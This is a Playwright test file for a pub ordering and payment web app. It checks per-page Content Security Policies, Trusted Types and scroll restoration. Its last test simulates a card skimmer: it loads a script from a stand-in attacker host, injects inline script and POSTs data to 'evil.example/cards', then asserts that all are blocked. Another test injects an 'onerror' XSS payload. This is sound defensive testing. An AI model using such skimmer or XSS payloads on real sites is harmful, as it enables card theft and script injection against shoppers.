import { atBill } from '../scenarios/bills.ts';
import { BILL_HEADINGS } from '../pages/bill-result.ts';
import { HEADINGS } from '../pages/result-page.ts';
import type { Page, Response } from '@playwright/test';
import { ARMS, atFood, atFoodByCode, goToPay, OLIVES, readyToPay } from '../scenarios/ordering.ts';
import { expect, QUICK, SMOKE, test } from '../test.ts';

/** The documents that the page has loaded, by path, with their policies. */
function documentsOf(page: Page): { readonly path: string; readonly policy: string }[] {
  const documents: { path: string; policy: string }[] = [];
  page.on('response', (response: Response) => {
    if (!response.request().isNavigationRequest() || response.frame() !== page.mainFrame()) return;
    const policy = response.headers()['content-security-policy'] ?? '';
    documents.push({ path: new URL(response.url()).pathname, policy });
  });
  return documents;
}

const PROVIDERS = /braintree|paypal|cardinal|google/;

test('basket and bill are documents with policies of their own (WC10)', async ({ guest, page, watch }) => {
  const documents = documentsOf(page);
  const paths = (): readonly string[] => documents.map(({ path }) => path);
  await atFood(guest);
  await guest.menu.quickAdd(OLIVES.title).tap();
  await guest.menu.goToBasket();
  await guest.isAt('Your basket');

  await test.step('a page that the basket asks its guest to is no new document, and the way back from its reload is', async () => {
    await guest.navigateTo('/terms');
    await guest.isAt('Terms');
    expect(paths()).toEqual([ARMS.table, ARMS.basket]);
    await guest.reload();
    await guest.isAt('Terms');
    await page.goBack();
    await guest.isAt('Your basket');
    expect(paths().slice(2)).toEqual(['/terms', ARMS.basket]);
  });

  await test.step('the menu after the basket is a document again', async () => {
    await guest.follow('Back');
    await guest.isAt('Food');
    await expect(guest.menu.basketBar).toHaveAccessibleName(/1 item/);
    expect(paths().slice(4)).toEqual([ARMS.food]);
    const [first, basket, , basketAgain] = documents.map(({ policy }) => policy);
    expect(first).not.toMatch(PROVIDERS);
    expect(first).toContain("require-trusted-types-for 'script'");
    expect(basket).toMatch(PROVIDERS);
    expect(basketAgain).toBe(basket);
    expect(documents.at(-1)?.policy).toBe(first);
  });

  await test.step('a bill’s table is chosen in its document, and its venue is not', async () => {
    documents.splice(0);
    await guest.navigateTo(`${ARMS.venue}/pay`);
    await guest.table.number.fill('2');
    await guest.press('Find my bill');
    await guest.isAt('Your bill');
    expect(paths()).toEqual([`${ARMS.venue}/pay`]);
    await guest.follow('Back');
    await guest.follow('Back');
    await guest.isAt('The Foxglove Arms');
    expect(documents.map(({ policy }) => PROVIDERS.test(policy))).toEqual([true, false]);
  });

  await test.step('a style that is not the app’s own, and text that would become code, are refused', async () => {
    const refused = await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'main { display: none }';
      document.head.append(style);
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
        return false;
      } catch {
        return true;
      }
    });
    expect(refused).toBe(true);
    await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('style-src-elem inline'));
    await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining('require-trusted-types-for'));
    await expect(guest.heading).toBeVisible();
    watch.provokes(...watch.seen);
  });
});

test('a menu scrolls to where it was left, by back and link', async ({ guest, page }) => {
  await atFoodByCode(guest);
  await guest.menu.quickAdd(OLIVES.title).tap();
  await guest.menu.isBuilt();
  const category = page.getByRole('heading', { level: 2 }).nth(3);
  await category.evaluate(async (heading) => {
    window.scrollBy({ top: heading.getBoundingClientRect().top - 200, behavior: 'instant' });
    // Content near the viewport takes its full height within three frames.
    for (let frames = 0; frames < 3; frames += 1) await new Promise(requestAnimationFrame);
  });
  const whereIs = async (): Promise<number> => (await category.boundingBox())?.y ?? Number.NaN;
  const left = await whereIs();
  // A tap would scroll the page to the bar, which is in sight already.
  await guest.menu.basketBar.dispatchEvent('click');
  await goToPay(guest);
  await page.goBack();
  await guest.isAt('Your basket');
  await page.goBack();
  await guest.isAt('Food');
  await expect.poll(whereIs).toBeCloseTo(left, 0);

  await guest.menu.basketBar.dispatchEvent('click');
  await guest.isAt('Your basket');
  await guest.reload();
  await guest.isAt('Your basket');
  await guest.follow('Add more items');
  await guest.isAt('Food');
  await expect.poll(whereIs).toBeCloseTo(left, 0);

  await atBill(guest);
  await guest.reload();
  await guest.isAt(BILL_HEADINGS.bill);
  await page.goBack();
  await guest.isAt('Food');
  await expect.poll(whereIs).toBeCloseTo(left, 0);

  const strip = page.getByRole('navigation', { name: 'Menus' });
  await strip.getByRole('link', { name: 'Drinks' }).dispatchEvent('click');
  await guest.isAt('Drinks');
  await strip.getByRole('link', { name: 'Food' }).dispatchEvent('click');
  await guest.isAt('Food');
  await expect.poll(whereIs).toBeCloseTo(left, 0);
});

test('a long bill scrolls to where it was left', async ({ guest, page }) => {
  await atBill(guest, '8');
  const whereIs = (): Promise<number> => page.evaluate(() => window.scrollY);
  await page.evaluate(() => window.scrollBy({ top: 300, behavior: 'instant' }));
  await expect.poll(whereIs).toBe(300);
  for (const goBack of [() => page.goBack(), () => guest.follow('Back')]) {
    await guest.bill.pay.dispatchEvent('click');
    await guest.isAt(BILL_HEADINGS.pay);
    await expect.poll(whereIs).toBe(0);
    await goBack();
    await guest.isAt(BILL_HEADINGS.bill);
    await expect.poll(whereIs).toBe(300);
  }
});

test(
  'a foreign script is blocked on the card page (attack H39), the bank’s page is not',
  { tag: [SMOKE, QUICK] },
  async ({ guest, page, sandbox, watch }) => {
    const blocked: string[] = [];
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') blocked.push(request.url());
    });
    await page.route('https://acs.bank.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<h1>Asked by ${route.request().method()}</h1>` }),
    );
    await readyToPay(guest);

    await test.step('a script by its address, one in the page, and a call that would carry cards away', async () => {
      await page.evaluate(() => {
        const skimmer = document.createElement('script');
        skimmer.src = 'https://evil.example/card-reader.js';
        const inline = document.createElement('script');
        inline.textContent = 'window.stolen = true';
        document.head.append(skimmer, inline);
        void fetch('https://evil.example/cards', { method: 'POST', body: 'numbers' }).catch(() => undefined);
      });
      for (const refused of [
        'script-src-elem https://evil.example',
        'script-src-elem inline',
        'connect-src https://evil.example',
      ])
        await expect.poll(() => watch.seen).toContainEqual(expect.stringContaining(refused));
      expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();
      expect(blocked).toContain('https://evil.example/card-reader.js');
      watch.provokes(...watch.seen);
    });

    await test.step('the page of the card’s own bank is asked for by a form', async () => {
      // As 3-D Secure 2 does from this page.
      await page.evaluate(() => {
        const frame = document.createElement('iframe');
        frame.name = 'bank';
        frame.title = 'Bank';
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', action: 'https://acs.bank.example/challenge', target: 'bank' });
        document.body.append(frame, form);
        form.submit();
      });
      const bank = page.frameLocator('iframe[name=bank]');
      await expect(bank.getByRole('heading', { name: 'Asked by POST' })).toBeVisible();
    });

    await guest.pay.pay.tap();
    await guest.isAt(HEADINGS.success);
    expect(sandbox.captures).toEqual([OLIVES.price]);
  },
);
